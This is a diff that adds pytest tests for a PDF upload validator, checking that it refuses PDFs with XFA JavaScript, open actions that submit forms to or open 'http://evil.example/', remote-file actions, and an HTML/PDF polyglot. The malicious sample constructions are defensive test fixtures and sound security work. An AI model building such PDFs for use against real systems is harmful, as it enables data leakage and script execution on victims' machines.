@@ -254,6 +254,80 @@ def test_a_pdf_with_script_a_launch_action_or_an_embedded_file_is_refused(
         checked_upload(upload("x.pdf", pdf_bytes(**kwargs)))
 
 
+def _pdf_with(**root: Any) -> bytes:
+    """A blank page whose catalogue carries ``root`` (built in the document)."""
+    pdf = pikepdf.new()
+    pdf.add_blank_page(page_size=(595, 842))
+    for key, build in root.items():
+        pdf.Root[f"/{key}"] = build(pdf)
+    out = io.BytesIO()
+    pdf.save(out)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("root", "reason"),
+    [
+        # an XFA form's scripts live in its XML, out of sight of any key name
+        (
+            {
+                "AcroForm": lambda pdf: pikepdf.Dictionary(
+                    Fields=pikepdf.Array(),
+                    XFA=pdf.make_stream(
+                        b'<xdp:xdp><script contentType="application/x-javascript">'
+                        b"app.alert(1)</script></xdp:xdp>"
+                    ),
+                )
+            },
+            "XFA",
+        ),
+        # opening the file sends the form to a server
+        (
+            {
+                "OpenAction": lambda pdf: pikepdf.Dictionary(
+                    S=pikepdf.Name.SubmitForm,
+                    F=pikepdf.Dictionary(
+                        FS=pikepdf.Name.URL, F=pikepdf.String("http://evil.example/")
+                    ),
+                )
+            },
+            "提交表单",
+        ),
+        (
+            {
+                "OpenAction": lambda pdf: pikepdf.Dictionary(
+                    S=pikepdf.Name.URI, URI=pikepdf.String("http://evil.example/")
+                )
+            },
+            "网络地址",
+        ),
+        (
+            {
+                "OpenAction": lambda pdf: pikepdf.Dictionary(
+                    S=pikepdf.Name.GoToR, F=pikepdf.String("other.pdf")
+                )
+            },
+            "其他文件",
+        ),
+    ],
+)
+def test_a_pdf_that_reaches_out_of_itself_is_refused(root, reason):
+    with pytest.raises(DocumentRefused, match=reason):
+        checked_upload(upload("x.pdf", _pdf_with(**root)))
+
+
+def test_nothing_before_the_pdf_header_is_kept():
+    # the review's file: a header, an HTML page, then a whole PDF — pikepdf reads the
+    # PDF, the stored bytes would carry the page
+    polyglot = b"%PDF-1.4\n<html><script>alert(1)</script></html>\n" + pdf_bytes()
+    with pytest.raises(DocumentRefused, match="%PDF-"):
+        checked_upload(upload("x.pdf", polyglot))
+    # a plain PDF, with its binary comment line, starts as it should
+    assert checked_upload(upload("x.pdf", pdf_bytes())).content_type == (
+        "application/pdf"
+    )
+
+
 def test_a_broken_pdf_is_refused():
     with pytest.raises(DocumentRefused, match="PDF"):
         checked_upload(upload("x.pdf", b"%PDF-1.7\n" + b"\x00garbage" * 50))
